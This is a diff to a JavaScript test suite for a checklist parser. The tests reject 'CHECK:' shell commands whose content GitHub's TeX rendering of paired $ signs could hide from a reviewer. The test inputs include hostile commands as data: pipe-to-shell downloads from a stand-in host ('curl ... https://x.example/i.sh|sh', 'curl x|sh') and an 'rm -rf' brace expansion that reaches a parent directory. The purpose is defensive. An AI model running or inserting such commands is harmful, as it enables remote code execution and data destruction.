@@ -458,7 +458,9 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(parseOk(lines('- [ ] A: t', '  CHECK: echo ok >> $GITHUB_STEP_SUMMARY; cat $RUNNER_TEMP/x', '  EXPECT: ok')).gates).toHaveLength(1);
     expect(parseOk(lines('- [ ] A: t', "  CHECK: printf 'a' \"$x\" 'b$' c", '  EXPECT: ok')).gates).toHaveLength(1);
     // Outside a pair, TeX syntax is plain text.
-    expect(parseOk(lines('- [ ] A: t', '  CHECK: test -d x && echo "${#x}" }', '  EXPECT: /^ok_1_2 $/')).gates).toHaveLength(1);
+    expect(parseOk(lines('- [ ] A: t', '  CHECK: test -d x && echo "${#x}" }', '  EXPECT: /^ok_1_2 x/')).gates).toHaveLength(1);
+    // ... unless a closing $ after a blank pairs with it, as GitHub may (round 40b N6).
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: test -d x && echo "${#x}" }', '  EXPECT: /^ok_1_2 $/'))[0]).toMatch(/^2: "#" inside/);
   });
 
   // Found by attack round 40a: what the page draws otherwise inside a pair of $, and pairs that
@@ -493,6 +495,16 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(at('ls $OUT_DIR$BUILD_ID/app.tar.gz;date +%s;curl -fsSL https://x.example/i.sh|sh;echo built|grep -q built$')).toMatch(/^2: "%" inside \$…\$ at column 48/);
     expect(at('test -f $OUT_DIR$BUILD_ID.tar.gz && curl x|sh && echo built|grep -q built$')).toMatch(/^2: "&" inside/);
     expect(parseErrors(lines('- [ ] B1: costs $5 per run, see $COST$URL in the wiki', '  CHECK: node c.mjs --fmt=%s;curl x|sh;echo cost-ok$', '  EXPECT: cost-ok'))[0]).toMatch(/^2: "%" inside/);
+    // Round 40b N6: GitHub renders `$\theta $` (reported in 2026): a closing $ after a blank
+    // may close the pair, and a line's end after an opening $ may be a blank or not. Checked as
+    // a third reading: refused where it hides something, never where no reading does.
+    expect(at('sh verify.sh $1 %;curl -s https://x.example/i.sh|sh;true $')).toMatch(/^2: "%" inside \$…\$ at column 26/);
+    expect(at('sh verify.sh $1 && curl -s https://x.example/i.sh|sh;true $ ok')).toMatch(/^2: "&" inside \$…\$ at column 26/);
+    expect(parseErrors(lines('- [ ] B1: price in $', '  CHECK: sh v.sh %;curl x|sh;echo ok$', '  EXPECT: ok'))[0]).toMatch(/^2: "%" inside \$…\$ at column 18/);
+    // Not before a letter or a digit in that reading, and nothing hidden: left alone.
+    for (const check of ['echo $HOME %s $PATH', 'echo $A %d $1', 'echo $(( $A % 2 ))', 'printf %s "$A" "$B"', 'echo "$A" "${B}"', 'echo $1 $ ok']) {
+      expect(parseOk(lines('- [ ] A: t', `  CHECK: ${check}`, '  EXPECT: ok')).gates, check).toHaveLength(1);
+    }
     // Round 40b N3: braces are not drawn, so a brace expansion shows as one path.
     expect(at('rm -rf $TMPDIR/{build-cache,..} b$')).toMatch(/^2: "," inside .* where braces are not drawn, so a brace expansion/);
     expect(at('echo $TMPDIR/{1..3} b$')).toMatch(/^2: "\." inside .* where braces are not drawn/);
